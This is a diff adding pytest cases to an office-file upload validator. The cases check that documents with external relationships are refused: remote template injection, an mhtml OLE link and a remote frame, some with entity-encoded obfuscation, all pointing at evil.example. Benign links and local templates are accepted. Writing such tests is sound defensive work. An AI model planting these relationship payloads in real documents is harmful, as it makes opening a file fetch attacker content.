@@ -137,3 +137,42 @@ def test_a_presentation_is_no_document():
     listed = '<Types><Override ContentType="application/x-presentation"/></Types>'
     members = {"[Content_Types].xml": listed, "_rels/.rels": "", "ppt/presentation.xml": ""}
     assert "不是Word文档或Excel表格" in refusal(files.archive(members), "讲稿.pptx")
+
+
+KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def relation(kind, target, mode="External"):
+    tag = f'<Relationship Id="r1" Type="{KIND}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    return {"word/_rels/settings.xml.rels": f"<Relationships>{tag}</Relationships>"}
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        relation("attachedTemplate", "https://evil.example/a.dotm"),
+        relation("attachedTemplate", "&#104;ttp://evil.example/a.dotm"),
+        relation("attached&#x54;emplate", "HTTP://evil.example/?a>b"),
+        relation("oleObject", "mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html"),
+        relation("frame", "http://evil.example/"),
+    ],
+)
+def test_what_fetches_from_the_net_when_it_is_opened_is_refused(extra):
+    assert "从网上加载内容" in refusal(files.office(extra=extra))
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        relation("hyperlink", "https://www.example.com/"),
+        relation("attachedTemplate", "file:///C:/Users/li/Templates/Normal.dotm"),
+        relation("oleObject", "embeddings/oleObject1.bin", mode="Internal"),
+    ],
+)
+def test_links_and_templates_of_ones_own_are_taken(extra):
+    assert judge(files.upload(files.office(extra=extra), "合同.docx")).kind == "docx"
+
+
+@pytest.mark.parametrize("text", ["<Relationships/>".encode("utf-16"), "<\0R\0"])
+def test_relationships_that_no_office_program_writes_are_refused(text):
+    assert "不是完整的" in refusal(files.office(extra={"word/_rels/document.xml.rels": text}))
